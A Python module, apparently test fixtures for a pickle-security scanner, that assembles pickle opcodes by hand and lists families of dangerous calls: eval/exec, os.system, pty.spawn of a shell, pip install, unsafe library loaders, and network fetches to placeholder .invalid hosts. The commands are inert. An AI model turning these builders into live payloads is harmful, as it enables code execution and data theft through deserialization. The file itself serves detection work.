"""Opcodes as bytes, and the calls that malicious pickles make, one list a family.

The commands inside are inert words (``echo``, ``id``); hosts end in ``.invalid``.
"""

from __future__ import annotations

import struct

CODE = "import os; os.system('echo marker')"
EXPRESSION = "__import__('os').system('echo marker')"
COMMAND = "echo marker"


def text(value: str) -> bytes:
    raw = value.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def value(item: object) -> bytes:
    if isinstance(item, bytes) and item[:1] == b"\xff":
        return item[1:]  # opcodes as they are
    if isinstance(item, str):
        return text(item)
    if isinstance(item, bytes):
        return blob(item)
    if item is None:
        return b"N"
    if isinstance(item, bool):
        return b"\x88" if item else b"\x89"
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, list):
        return b"](" + b"".join(map(value, item)) + b"e"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
    raise TypeError(item)


def raw(opcodes: bytes) -> bytes:
    return b"\xff" + opcodes


def called(function: bytes, *args: object) -> bytes:
    return function + b"(" + b"".join(map(value, args)) + b"tR"


def v4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def call(module: str, name: str, *args: object) -> bytes:
    return v4(called(named(module, name), *args))


def classic(module: str, name: str, argument: str) -> bytes:
    """Protocol 0, as the oldest exploits look."""
    return f"c{module}\n{name}\n(V{argument}\ntR.".encode()


CALLS: dict[str, list[tuple[str, str, tuple[object, ...]]]] = {
    "builtins": [
        ("builtins", "eval", (EXPRESSION,)),
        ("builtins", "exec", (CODE,)),
        ("__builtin__", "execfile", ("/tmp/x.py",)),
        ("builtins", "compile", (CODE, "x", "exec")),
        ("builtins", "__import__", ("os",)),
        ("builtins", "open", ("/etc/hosts",)),
        ("builtins", "globals", ()),
        ("builtins", "breakpoint", ()),
        ("builtins", "map", (raw(named("builtins", "eval")), [EXPRESSION])),
        ("builtins", "setattr", (raw(named("collections", "OrderedDict")), "a", 1)),
    ],
    "process": [
        ("os", "system", (COMMAND,)),
        ("posix", "popen", (COMMAND,)),
        ("nt", "system", ("dir",)),
        ("os", "execvp", ("id", ["id"])),
        ("os", "remove", ("x",)),
        ("os", "kill", (1, 9)),
        ("subprocess", "Popen", (["id"],)),
        ("subprocess", "check_output", (["id"],)),
        ("subprocess", "getoutput", ("id",)),
        ("commands", "getoutput", ("id",)),
        ("pty", "spawn", (["sh"],)),
        ("multiprocessing.util", "spawnv_passfds", (b"id", ["id"], [])),
        ("asyncio", "create_subprocess_shell", ("id",)),
        ("webbrowser", "open", ("http://x.invalid",)),
        ("signal", "raise_signal", (9,)),
        ("sys", "exit", (0,)),
    ],
    "import-machinery": [
        ("importlib", "import_module", ("os",)),
        ("importlib", "reload", (raw(named("os", "path")),)),
        ("importlib.machinery", "SourceFileLoader", ("x", "/tmp/x.py")),
        ("importlib.util", "spec_from_file_location", ("x", "/tmp/x.py")),
        ("_frozen_importlib", "__import__", ("os",)),
        ("pkgutil", "resolve_name", ("os:system",)),
        ("runpy", "run_path", ("/tmp/x.py",)),
        ("zipimport", "zipimporter", ("/tmp/x.zip",)),
        ("imp", "load_source", ("x", "/tmp/x.py")),
        ("site", "addsitedir", ("/tmp",)),
    ],
    "installers-and-tools": [
        ("pip", "main", (["install", "x"],)),
        ("pip._internal", "main", (["install", "x"],)),
        ("pip._internal.cli.main", "main", (["install", "x"],)),
        ("ensurepip", "bootstrap", ()),
        ("timeit", "timeit", (CODE,)),
        ("timeit", "main", (["x"],)),
        ("cProfile", "run", (CODE,)),
        ("trace", "Trace.run", ({}, CODE)),
        ("pydoc", "locate", ("os.system",)),
        ("doctest", "debug_script", (CODE,)),
        ("code", "interact", ()),
        ("bdb", "Bdb.run", ({}, CODE)),
        ("pdb", "run", (CODE,)),
        ("unittest.mock", "_importer", ("os.system",)),
        ("lib2to3.main", "main", ("x",)),
        ("setuptools._distutils.spawn", "spawn", (["id"],)),
        ("distutils.spawn", "spawn", (["id"],)),
        ("idlelib.run", "Executive.runcode", ({}, "x")),
        ("sqlite3", "connect", ("/tmp/x",)),
        ("dataclasses", "make_dataclass", ("C", ["x"])),
        ("typing", "get_type_hints", ({}, {}, {})),
    ],
    "libraries": [
        ("numpy", "load", ("/tmp/x.npy", None, True)),
        ("numpy.testing._private.utils", "runstring", (CODE, {})),
        ("numpy.f2py.crackfortran", "myeval", (EXPRESSION, {}, {})),
        ("numpy", "memmap", ("/tmp/x", "uint8", "w+", 0, 1)),
        ("numpy", "fromfile", ("/etc/hosts",)),
        ("numpy.core", "_ufunc_reconstruct", ("os", "system")),
        ("pandas", "eval", ("@x",)),
        ("pandas", "read_pickle", ("http://x.invalid/a.pkl",)),
        ("pandas.io.pickle", "read_pickle", ("x",)),
        ("pandas", "read_csv", ("http://x.invalid/a",)),
        ("joblib", "load", ("x",)),
        ("joblib.externals.cloudpickle", "loads", (b"x",)),
        ("torch", "load", ("x",)),
        ("torch.hub", "load", ("a/b", "c")),
        ("torch.utils.cpp_extension", "load_inline", ("a", "b")),
        ("torch.ops", "load_library", ("/tmp/x.so",)),
        ("torch.jit", "CompilationUnit", ("def f(): pass",)),
        ("torch.fx.graph_module", "_forward_from_src", ("def forward(self): 1", {})),
        ("sklearn.datasets", "fetch_openml", ("x",)),
        ("sklearn.utils._testing", "check_skip_network", ()),
        ("scipy.io", "loadmat", ("x",)),
        ("sympy", "sympify", (EXPRESSION,)),
        ("cloudpickle", "loads", (b"x",)),
        ("dill._dill", "_create_code", (1, 2)),
        ("yaml", "unsafe_load", ("x",)),
        ("jinja2", "Template", ("{{ 1 }}",)),
        ("IPython", "start_ipython", ()),
        ("tensorflow", "io.read_file", ("x",)),
        ("keras.models", "load_model", ("x",)),
        ("transformers.utils", "import_utils.direct_transformers_import", ("x",)),
    ],
    "network": [
        ("socket", "create_connection", (raw(b"X\x09\x00\x00\x00x.invalidK\x50\x86"),)),
        ("socket", "gethostbyname", ("x.invalid",)),
        ("urllib.request", "urlretrieve", ("http://x.invalid", "/tmp/x")),
        ("http.client", "HTTPSConnection", ("x.invalid",)),
        ("requests", "get", ("http://x.invalid",)),
        ("httpx", "post", ("http://x.invalid",)),
        ("aiohttp", "ClientSession", ()),
        ("smtplib", "SMTP", ("x.invalid",)),
        ("ftplib", "FTP", ("x.invalid",)),
        ("ssl", "get_server_certificate", (raw(b"X\x09\x00\x00\x00x.invalidM\xbb\x01\x86"),)),
        ("xmlrpc.client", "ServerProxy", ("http://x.invalid",)),
        ("boto3", "client", ("s3",)),
    ],
    "files": [
        ("shutil", "rmtree", ("/tmp/x",)),
        ("io", "open", ("/etc/hosts",)),
        ("_io", "FileIO", ("/etc/hosts",)),
        ("codecs", "open", ("/etc/hosts",)),
        ("pathlib", "Path.write_text", (raw(called(named("pathlib", "Path"), "x")), "y")),
        ("tempfile", "mktemp", ()),
        ("linecache", "getlines", ("/etc/hosts",)),
        ("fileinput", "input", (["/etc/hosts"],)),
        ("logging", "FileHandler", ("x.log",)),
        ("logging.config", "fileConfig", ("x",)),
        ("zipfile", "ZipFile", ("x",)),
        ("tarfile", "open", ("x",)),
        ("ctypes", "CDLL", ("libc.so.6",)),
        ("mmap", "mmap", (-1, 10)),
        ("glob", "glob", ("/*",)),
        ("configparser", "RawConfigParser.read", ({}, "x")),
        ("mailcap", "findmatch", ({}, "t", "v", "f", [])),
    ],
}
